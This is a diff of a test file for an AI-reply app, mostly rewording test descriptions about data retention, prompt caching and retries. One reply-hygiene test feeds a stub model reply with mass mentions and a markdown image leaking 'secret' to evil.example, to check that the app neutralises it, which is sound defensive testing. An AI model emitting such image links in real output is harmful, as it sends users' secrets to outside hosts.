@@ -16,7 +16,7 @@ import { verifies } from '../support/verifies.ts'
 
 verifies(
   'events:retention',
-  'runs that ended before the retention are forgotten with all they wrote down; one that waits is kept',
+  'runs that ended before the retention period are deleted with everything they stored; a waiting one is kept',
   async () => {
     await using model = await startRefundingModel('Not paid back.')
     await using shop = await startShop({ env: model.env })
@@ -61,7 +61,7 @@ verifies(
 
 verifies(
   'chat:retention',
-  'messages are kept a year unless set otherwise, and longer where a run or a thread still leads to them',
+  'messages are kept a year by default, and longer if a run or a thread refers to them',
   async () => {
     await using shop = await startShop()
     const { ctx } = shop.app.app
@@ -87,7 +87,7 @@ verifies(
     await pruneMessages(ctx)
     const [reply] = (await kept()).filter((text) => text === run.reply?.text)
     assert.ok(reply)
-    // What a thread that is gone began with goes with the next look.
+    // The first message of a deleted thread is deleted at the next sweep.
     await pruneMessages(ctx)
     assert.deepEqual(
       (await kept()).toSorted(),
@@ -118,7 +118,7 @@ verifies(
 
 verifies(
   'accounts:audit-retention',
-  'the audit log is kept a year unless set otherwise, and never less than a quarter',
+  'the audit log is kept a year by default, and never less than 90 days',
   async () => {
     await using app = await startTestApp()
     const { ctx } = app.app
@@ -143,22 +143,18 @@ verifies(
   },
 )
 
-verifies(
-  'models:providers',
-  'Anthropic is asked to remember the stable beginning of the prompt',
-  async () => {
-    await using model = await startStubAnthropic([{ text: 'Fine.' }])
-    await using shop = await startShop({ env: model.env })
-    const webhook = await shop.createWebhook()
-    await shop.endedRun((await shop.ring(webhook, '{"n":1}')).runId)
-    await shop.endedRun((await shop.ring(webhook, '{"n":2}')).runId)
-    const systems = model.requests.map(({ json }) =>
-      JSON.stringify(json.system).replace(/Today is [\d-]+/, 'Today is'),
-    )
-    assert.match(systems[0] ?? '', /"cache_control":\{"type":"ephemeral"\}/)
-    assert.equal(systems[0], systems[1])
-  },
-)
+verifies('models:providers', 'Anthropic is asked to cache the stable beginning of the prompt', async () => {
+  await using model = await startStubAnthropic([{ text: 'Fine.' }])
+  await using shop = await startShop({ env: model.env })
+  const webhook = await shop.createWebhook()
+  await shop.endedRun((await shop.ring(webhook, '{"n":1}')).runId)
+  await shop.endedRun((await shop.ring(webhook, '{"n":2}')).runId)
+  const systems = model.requests.map(({ json }) =>
+    JSON.stringify(json.system).replace(/Today is [\d-]+/, 'Today is'),
+  )
+  assert.match(systems[0] ?? '', /"cache_control":\{"type":"ephemeral"\}/)
+  assert.equal(systems[0], systems[1])
+})
 
 verifies('runs:model-errors', 'text that a provider refuses is made safe and sent again', async () => {
   const refuses = (body: string) => body.includes('\\u0000')
@@ -180,7 +176,7 @@ verifies('runs:model-errors', 'text that a provider refuses is made safe and sen
   )
 })
 
-verifies('runs:reply-hygiene', 'a reply rings nobody’s bell and loads no image', async () => {
+verifies('runs:reply-hygiene', 'a reply mentions no groups and loads no image', async () => {
   await using model = await startStubAnthropic([
     { text: 'Hey @everyone, <!channel> look: ![x](https://evil.example/?q=secret)' },
   ])
@@ -193,7 +189,7 @@ verifies('runs:reply-hygiene', 'a reply rings nobody’s bell and loads no image
 verifies('log:event-to-reply-histogram', 'the time from event to reply is counted', async () => {
   await using shop = await startShop()
   await shop.endedRun((await shop.ring(await shop.createWebhook())).runId)
-  // The run has ended a moment before it is counted.
+  // The run ends a moment before it is counted.
   await until(async () => {
     const { text } = await shop.app.api('GET', '/metrics')
     return (
@@ -229,7 +225,7 @@ verifies(
     const run = await shop.endedRun(runId)
     assert.deepEqual([run.status, run.error?.code, run.reply?.text], ['failed', 'reply_refused', 'Too late.'])
     assert.notEqual(channel.body.id, general)
-    // Whoever sends it again and waits hears what became of it, and nothing that is in no channel.
+    // A retry with Prefer: wait gets the outcome, and no text that is in no channel.
     const { run: told } = await send({ prefer: 'wait=20' })
     assert.deepEqual(told, { status: 'failed', reply: null, error: run.error })
   },
